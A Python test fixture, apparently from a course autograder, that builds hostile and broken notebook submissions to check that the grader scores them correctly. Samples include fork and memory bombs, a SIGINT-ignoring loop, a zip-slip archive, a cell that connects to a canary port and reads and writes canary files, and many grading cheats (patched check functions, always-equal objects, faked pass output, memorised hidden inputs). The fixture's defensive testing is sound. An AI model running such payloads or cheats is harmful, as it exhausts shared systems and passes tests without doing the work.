"""A corpus of hostile and broken submissions, built from the labs' own notebooks (so it never goes stale):
lab 01 for most cases; lab 02 (layers and models), lab 06 (a training loop given callbacks) and lab 07 (whole
training runs, judged on splits only the grader knows) for cheats on exercises whose tests work with the student's
objects.

`build(folder, canary)` writes every case into `folder` (LMS layout) and returns {student: Case}.
Each case says what it deserves: the points per exercise it must get, and what its status must say.
`canary` holds the paths and the loopback port the hostile code tries to reach; the tests check that
none of it was read, written or connected to.
"""
from __future__ import annotations

import json
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from autograder.course import REPO
from mitdl_utils.labs import dense as dense_spec
from mitdl_utils.labs import digits as digits_spec
from mitdl_utils.labs import perceptron as perceptron_spec
from mitdl_utils.labs import regularization as regularization_spec

LAB = "01_perceptron"
POINTS = {exercise.name: exercise.points for exercise in perceptron_spec.EXERCISES}
FULL = sum(POINTS.values())


def exercises_after(exercise: str) -> tuple:
    """The exercises after `exercise` in notebook order: what a kernel that dies there takes with it."""
    order = list(POINTS)
    return tuple(order[order.index(exercise) + 1:])




@dataclass
class Case:
    notebook: str
    total: float
    status: str = "graded"  # the status must start with this
    lost: tuple = ()  # exercises that must score 0
    note: str = ""
    max_score: float = FULL
    extra: dict = field(default_factory=dict)


DENSE = {exercise.name: exercise.points for exercise in dense_spec.EXERCISES}
DIGITS = {exercise.name: exercise.points for exercise in digits_spec.EXERCISES}
REGULARIZATION_FULL = sum(exercise.points for exercise in regularization_spec.EXERCISES)


def solution(fw: str = "torch", lab: str = LAB):
    return nbformat.read(REPO / "solutions" / lab / f"{lab[3:]}_{fw}.ipynb", as_version=4)


def stub(fw: str = "torch", lab: str = LAB):
    return nbformat.read(REPO / "labs" / lab / f"{lab[3:]}_{fw}.ipynb", as_version=4)


def _index(nb, grade_id: str) -> int:
    for i, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def after(nb, grade_id: str, code: str):
    """Insert a plain code cell after the cell with `grade_id`."""
    nb.cells.insert(_index(nb, grade_id) + 1, nbformat.v4.new_code_cell(code))
    return nb


def after_setup(nb, code: str):
    for i, cell in enumerate(nb.cells):
        if cell.cell_type == "code" and "open_lab(" in cell.source:
            nb.cells.insert(i + 1, nbformat.v4.new_code_cell(code))
            return nb
    raise KeyError("setup cell")


def set_solution(nb, exercise: str, code: str):
    nb.cells[_index(nb, f"{exercise}_solution_1")].source = code
    return nb


WRONG_BUT_TENSORS = """
def sigmoid(z): return 1 / (1 + torch.exp(-z))
def tanh(z): return (torch.exp(z) - torch.exp(-z)) / (torch.exp(z) + torch.exp(-z))
def relu(z): return torch.zeros_like(z)  # wrong: only the patched comparisons could pass it
"""


def memorized_activations() -> str:
    """Activations that are right only on the inputs the checks use when the grader adds no secret: what a
    student could work out in advance from the public package, and answer from a table."""
    import hashlib
    import importlib

    from mitdl_utils.checking import run_exercise, to_numpy
    from mitdl_utils.frameworks import get_framework

    spec = importlib.import_module("mitdl_utils.labs.perceptron")
    reference = importlib.import_module("mitdl_utils.labs.perceptron.reference_torch")
    [exercise] = [e for e in spec.EXERCISES if e.name == "activations"]
    seen = set()

    def spy(fn):
        def wrapped(z):
            seen.add(hashlib.sha1(to_numpy(z).tobytes()).hexdigest())
            return fn(z)
        return wrapped

    namespace = {name: spy(getattr(reference, name)) for name in ("sigmoid", "tanh", "relu")}
    for hidden in (False, True):
        assert run_exercise(exercise, namespace, get_framework("torch"), reference, hidden=hidden).passed
    return (f"import hashlib\nKNOWN = {sorted(seen)!r}\n"
            "def known(z): return hashlib.sha1(z.detach().numpy().tobytes()).hexdigest() in KNOWN\n"
            "def sigmoid(z): return 1 / (1 + torch.exp(-z)) if known(z) else torch.zeros_like(z)\n"
            "def tanh(z):\n    if not known(z):\n        return torch.zeros_like(z)\n"
            "    return (torch.exp(z) - torch.exp(-z)) / (torch.exp(z) + torch.exp(-z))\n"
            "def relu(z): return torch.clamp(z, min=0.0) if known(z) else torch.zeros_like(z)\n")


def build(folder: Path, canary: dict) -> dict[str, Case]:
    folder.mkdir(parents=True, exist_ok=True)
    cases: dict[str, Case] = {}
    files: dict[str, object] = {}

    def add(student, nb, case, name=None, fw="torch"):
        cases[student] = case
        files[name or f"{student}_perceptron_{fw}.ipynb"] = nb

    nbt = "perceptron_torch"
    # ---- honest baselines
    add("good", solution(), Case(nbt, FULL))
    add("goodtf", solution("tf"), Case("perceptron_tf", FULL), fw="tf")
    add("untouched", stub(), Case(nbt, 0, lost=tuple(POINTS)))
    # ---- resources: time, memory, crashes, processes, output
    add("loopcell", after_setup(solution(), "while True:\n    pass"), Case(nbt, FULL, status="graded: cell", note="interrupted, goes on"))
    add("loopfn", set_solution(solution(), "collapse", "def collapse_linear(W1, b1, W2, b2):\n    while True:\n"
                                                        "        pass\n"),
        Case(nbt, FULL - 2, status="graded: cell", lost=("collapse",)))
    add("deafloop", after(solution(), "decision_boundary", "import signal\nsignal.signal(signal.SIGINT, "
                                                           "signal.SIG_IGN)\nwhile True:\n    pass"),
        Case(nbt, FULL - sum(POINTS[e] for e in exercises_after("decision_boundary")), status="graded: cell",
             lost=exercises_after("decision_boundary")))
    add("membomb", set_solution(solution(), "collapse", "def collapse_linear(W1, b1, W2, b2):\n    hog = []\n"
                                                          "    while True:\n        hog.append(bytearray(50 << 20))\n"),
        Case(nbt, FULL - 2, lost=("collapse",)))
    add("membomb2", after(solution(), "perceptron", "hog = []\nwhile True:\n    hog.append(bytearray(50 << 20))\n"
                                                    "    hog[-1][::4096] = b'x' * len(hog[-1][::4096])"),
        Case(nbt, FULL, status="graded: cell", note="MemoryError in an ungraded cell"))
    # the same bomb after writing files to its tmpfs and running the garbage collector, which writes to every
    # object the worker owns (its pages get copied into the child): neither is the student's allocation, so
    # the address-space limit, not the cgroup's backstop, must stop the bomb (on old code: SIGKILL, 14/15)
    add("membomb3", after(solution(), "perceptron", "for n in range(2):\n    open(f'big{n}', 'wb').write(bytes(60 << 20))\n"
                                                    "import gc\ngc.collect()\nhog = []\nwhile True:\n"
                                                    "    hog.append(bytearray(50 << 20))\n"
                                                    "    hog[-1][::4096] = b'x' * len(hog[-1][::4096])"),
        Case(nbt, FULL, status="graded: cell 15 ran out of memory", note="MemoryError after copy-on-write"))
    add("exits", after(solution(), "perceptron", "import os\nos._exit(3)"),
        Case(nbt, 8, status="graded: the kernel exited", lost=("lecture_example", "decision_boundary", "collapse")))
    add("segfault", after(solution(), "decision_boundary", "import ctypes\nctypes.string_at(0)"),
        Case(nbt, FULL - sum(POINTS[e] for e in exercises_after("decision_boundary")),
             status="graded: the kernel died", lost=exercises_after("decision_boundary")))
    add("sysexit", after(solution(), "activations", "import sys\nsys.exit(0)"), Case(nbt, FULL))
    add("forkbomb", after_setup(solution(), "import os, time\nkids = 0\nfor _ in range(5000):\n    try:\n"
                                            "        if os.fork() == 0:\n            time.sleep(600)\n"
                                            "            os._exit(0)\n        kids += 1\n    except OSError:\n"
                                            "        break\nprint('forked', kids)"),
        Case(nbt, FULL, note="pids limit"))
    add("flood", after_setup(solution(), "import sys\nfor _ in range(200000):\n    print('x' * 500)\n"
                                         "sys.stderr.write('y' * 10_000_000)"), Case(nbt, FULL, status="graded: cell"))
    # ---- reaching out: network and the instructor's files
    spy = (f"import socket, os\nleaks = []\n"
           f"try:\n    socket.create_connection(('127.0.0.1', {canary['port']}), timeout=2).sendall(b'leak')\n"
           f"    leaks.append('net')\nexcept OSError as e:\n    print('no network:', e)\n"
           f"for path in {canary['read']!r}:\n    try:\n        print('READ', path, open(path, 'rb').read(200))\n"
           f"    except OSError as e:\n        print('cannot read', path, e)\n"
           f"for path in {canary['write']!r}:\n    try:\n        open(path, 'w').write('pwned')\n"
           f"        print('WROTE', path)\n    except OSError as e:\n        print('cannot write', path, e)\n")
    add("spy", after_setup(solution(), spy), Case(nbt, FULL))
    # ---- cheats: none may earn points
    add("fakelab", after_setup(stub(), "class FakeLab:\n    def check(self, *a, **k): print('✅ passed')\n"
                                       "    def grade(self, *a, **k): print('✅ passed')\nlab = FakeLab()"),
        Case(nbt, 0, lost=tuple(POINTS)))
    add("patchcheck", after_setup(stub(), "import mitdl_utils.checking as c, mitdl_utils.lab as L\n"
                                          "ok = lambda ex, *a, **k: c.Outcome(ex.name, 'passed', 'ok', ex.points)\n"
                                          "c.run_exercise = ok\nL.run_exercise = ok\nc.assert_close = lambda *a, **k: None\n"
                                          "import os\nos.environ.pop('NBGRADER_EXECUTION', None)"),
        Case(nbt, 0, lost=tuple(POINTS)))
    add("patchnumpy", set_solution(after_setup(solution(), "import numpy\nnumpy.allclose = lambda *a, **k: True\n"
                                                           "numpy.array_equal = lambda *a, **k: True\n"
                                                           "import builtins\nbuiltins.all = lambda *a: True\n"
                                                           "builtins.any = lambda *a: False"),
                                   "activations", WRONG_BUT_TENSORS),
        Case(nbt, FULL - 3, lost=("activations",)))
    always_equal = ("class Yes(torch.Tensor):\n    def __eq__(self, other): return True\n"
                    "    __ne__ = lambda self, other: False\n"
                    "    def numpy(self): return torch.zeros(self.shape).numpy()\n"
                    "class Anything:\n    __eq__ = lambda s, o: True\n    shape = ()\n"
                    "def sigmoid(z): return 1 / (1 + torch.exp(-z))\n"
                    "def tanh(z): return (torch.exp(z) - torch.exp(-z)) / (torch.exp(z) + torch.exp(-z))\n"
                    "def relu(z): return Yes(torch.zeros_like(z))\n")
    add("alwaysequal", set_solution(solution(), "activations", always_equal),
        Case(nbt, FULL - 3, lost=("activations",)))
    add("opaque", set_solution(solution(), "lecture_example",
                               "class Anything:\n    __eq__ = lambda s, o: True\n    __ne__ = lambda s, o: False\n"
                               "def lecture_example():\n    return Anything(), Anything()\n"),
        Case(nbt, FULL - 1, lost=("lecture_example",)))
    add("reference", set_solution(solution(), "activations",
                                  "from mitdl_utils.labs.perceptron import reference_torch as R\n"
                                  "sigmoid, tanh, relu = R.sigmoid, R.tanh, R.relu\n"),
        Case(nbt, 0, status="flagged", lost=tuple(POINTS)))
    add("reference2", set_solution(solution(), "activations", "sigmoid = lab.reference.sigmoid\n"
                                                              "tanh = getattr(lab, 'reference').tanh\n"
                                                              "relu = lab.reference.relu\n"),
        Case(nbt, 0, status="flagged", lost=tuple(POINTS)))
    edited = stub()
    for cell in edited.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.source = "print('✅ passed')"
            cell.metadata["nbgrader"]["points"] = 100
            cell.metadata["nbgrader"]["checksum"] = "0" * 32
    add("edittests", edited, Case(nbt, 0, lost=tuple(POINTS)))
    deleted = solution()
    deleted.cells = [c for c in deleted.cells if not c.metadata.get("nbgrader", {}).get("grade")]
    add("deletedtests", deleted, Case(nbt, FULL, note="nbgrader puts the test cells back"))
    retyped = stub()
    for cell in retyped.cells:
        if cell.metadata.get("nbgrader", {}).get("grade"):
            cell.cell_type, cell.metadata["nbgrader"]["grade_id"] = "markdown", "mine"
            cell.pop("outputs", None), cell.pop("execution_count", None)
    add("retyped", retyped, Case(nbt, 0, lost=tuple(POINTS)))
    dup = solution()
    i = _index(dup, "collapse")
    dup.cells.insert(i + 1, nbformat.from_dict(json.loads(json.dumps(dup.cells[i]))))
    add("duplicated", dup, Case(nbt, FULL))
    fakeprint = after(stub(), "collapse", "from IPython.display import display\nfrom mitdl_utils.lab import CHECK_MIMETYPE\n"
                                          "for ex in ['activations', 'collapse']:\n"
                                          "    display({CHECK_MIMETYPE: {'exercise': ex, 'status': 'passed', "
                                          "'message': 'all checks passed', 'points': 3}, "
                                          "'text/plain': '✅ ' + ex + ': passed'}, raw=True)\n"
                                          "print('✅ activations: passed\\n13/13 points')")
    add("fakeprint", fakeprint, Case(nbt, 0, lost=tuple(POINTS)))
    add("swallow", after_setup(stub(), "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
                                       "import sys\nsys.stderr = sys.stdout"),
        Case(nbt, 0, lost=tuple(POINTS)))
    printer = ("def sigmoid(z):\n    print('SPY', z.tolist())\n    return 1 / (1 + torch.exp(-z))\n"
               "def tanh(z): return 2 / (1 + torch.exp(-2 * z)) - 1  # the stable form (lab 01)\n"
               "def relu(z): return torch.clamp(z, min=0.0)\n")
    add("printer", set_solution(solution(), "activations", printer),
        Case(nbt, FULL, note="prints during the hidden tests are not shown: they would show the hidden inputs"))
    add("memorized", set_solution(solution(), "activations", memorized_activations()),
        Case(nbt, FULL - 7, lost=("activations", "derivatives", "lecture_example"),
             note="the grader's hidden inputs follow from its own secret; the derivatives and the lecture's "
                  "example use the wrong activations too"))
    # ---- cheats on exercises that work with the student's objects (models, layers, training loops)
    add("fakelab02", after_setup(stub(lab="02_dense"), "class FakeLab:\n    def check(self, *a, **k): pass\n"
                                                       "    def grade(self, *a, **k): pass\nlab = FakeLab()"),
        Case("dense_torch", 0, lost=tuple(DENSE), max_score=sum(DENSE.values())), name="fakelab02_dense_torch.ipynb")
    nosigmoid = ("class MyDenseLayer(nn.Module):\n    def __init__(self, input_dim, output_dim):\n"
                 "        super().__init__()\n        self.W = nn.Parameter(torch.randn(input_dim, output_dim))\n"
                 "        self.b = nn.Parameter(torch.zeros(output_dim))\n"
                 "    def forward(self, x):\n        return x @ self.W + self.b  # wrong: no sigmoid\n"
                 "import mitdl_utils.checking as c, numpy\nc.assert_close = lambda *a, **k: None\n"
                 "c.expect = lambda *a, **k: None\nnumpy.allclose = lambda *a, **k: True\n")
    add("patched02", set_solution(solution(lab="02_dense"), "dense_layer", nosigmoid),
        Case("dense_torch", sum(DENSE.values()) - DENSE["dense_layer"] - DENSE["nonlinear_mlp"],
             lost=("dense_layer", "nonlinear_mlp"), max_score=sum(DENSE.values()),
             note="the MLP of section 8 is made of the student's MyDenseLayer: without its sigmoid it is linear"),
        name="patched02_dense_torch.ipynb")
    add("good06", solution(lab="06_regularization"), Case("regularization_torch", REGULARIZATION_FULL,
                                                          max_score=REGULARIZATION_FULL),
        name="good06_regularization_torch.ipynb")
    lastweights = ("def train_with_early_stopping(model, train_epoch, validation_loss, max_epochs, patience):\n"
                   "    history, best, waited = [], float('inf'), 0\n    for _ in range(max_epochs):\n"
                   "        train_epoch()\n        history.append(float(validation_loss()))\n"
                   "        if history[-1] < best:\n            best, waited = history[-1], 0\n"
                   "        else:\n            waited += 1\n            if waited >= patience:\n                break\n"
                   "    return history  # wrong: the model keeps the last epoch's weights, not the best\n")
    add("lastweights06", set_solution(solution(lab="06_regularization"), "train_with_early_stopping", lastweights),
        Case("regularization_torch", REGULARIZATION_FULL - 3, lost=("train_with_early_stopping",),
             max_score=REGULARIZATION_FULL), name="lastweights06_regularization_torch.ipynb")
    digits_full = sum(DIGITS.values())
    add("good07", solution(lab="07_digits"), Case("digits_torch", digits_full, max_score=digits_full),
        name="good07_digits_torch.ipynb")
    # a history that tells the story of early stopping, with no training behind it
    story = ("def fit(model, X_train, y_train, X_val, y_val, max_epochs, patience, batch_size, learning_rate, seed):\n"
             "    val = [1.0, 0.8, 0.7, 0.75, 0.9][:2 + patience]\n"
             "    return {'loss': val, 'accuracy': [0.9] * len(val), 'val_loss': val,\n"
             "            'val_accuracy': [0.9] * len(val)}\n")
    add("story07", set_solution(solution(lab="07_digits"), "fit", story),
        Case("digits_torch", digits_full - DIGITS["fit"], lost=("fit",), max_score=digits_full),
        name="story07_digits_torch.ipynb")
    # a transposed confusion matrix, with the comparisons patched and an ndarray that equals everything
    transposed = ("import mitdl_utils.checking as c, numpy\nc.assert_close = lambda *a, **k: None\n"
                  "numpy.array_equal = lambda *a, **k: True\nnumpy.allclose = lambda *a, **k: True\n"
                  "class Counts(numpy.ndarray):\n    def __eq__(self, other): return numpy.ones(self.shape, bool)\n"
                  "def confusion_matrix(y_true, y_pred, n_classes):\n"
                  "    counts = numpy.zeros((n_classes, n_classes), dtype=numpy.int64)\n"
                  "    for true, predicted in zip(y_true, y_pred):\n"
                  "        counts[predicted, true] += 1  # wrong: rows should be the true classes\n"
                  "    return counts.view(Counts)\n")
    add("patched07", set_solution(solution(lab="07_digits"), "confusion_matrix", transposed),
        Case("digits_torch", digits_full - DIGITS["confusion_matrix"], lost=("confusion_matrix",),
             max_score=digits_full), name="patched07_digits_torch.ipynb")
    # ---- broken input
    files["badjson_perceptron_torch.ipynb"] = b"{ not json"
    cases["badjson"] = Case(nbt, 0, status="rejected: not a notebook")
    files["empty_perceptron_torch.ipynb"] = b""
    cases["empty"] = Case(nbt, 0, status="rejected: empty file")
    old = nbformat.convert(solution(), 3)
    files["oldformat_perceptron_torch.ipynb"] = nbformat.writes(old, version=3).encode()
    cases["oldformat"] = Case(nbt, FULL, note="nbformat 3 is upgraded")
    reordered = solution()
    j = _index(reordered, "collapse_solution_1")
    reordered.cells.append(reordered.cells.pop(j))
    add("reordered", reordered, Case(nbt, FULL - 2, lost=("collapse",)))
    added = solution()
    added.cells.insert(3, nbformat.v4.new_markdown_cell("my notes"))
    added.cells.insert(3, nbformat.v4.new_code_cell("x = 1"))
    add("addedcells", added, Case(nbt, FULL))
    add("renamed", solution(), Case(nbt, FULL), name="renamed.ipynb")  # the name says nothing; metadata does
    (folder / "notazip.zip").write_bytes(b"PK but not really")
    cases["notazip"] = Case("", 0, status="rejected: not a zip", max_score=0)
    with zipfile.ZipFile(folder / "zipslip.zip", "w") as archive:
        archive.writestr("../../escaped_perceptron_torch.ipynb", nbformat.writes(solution()))
    cases["zipslip"] = Case("", 0, status="rejected: zip has paths that escape", max_score=0)
    with zipfile.ZipFile(folder / "twice.zip", "w") as archive:
        archive.writestr(f"{LAB}/perceptron_torch.ipynb", nbformat.writes(solution()))
    files["twice_perceptron_torch.ipynb"] = solution()
    cases["twice"] = Case(nbt, FULL, extra={"duplicate": True})
    for name, content in files.items():
        path = folder / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            nbformat.write(content, path)
    return cases
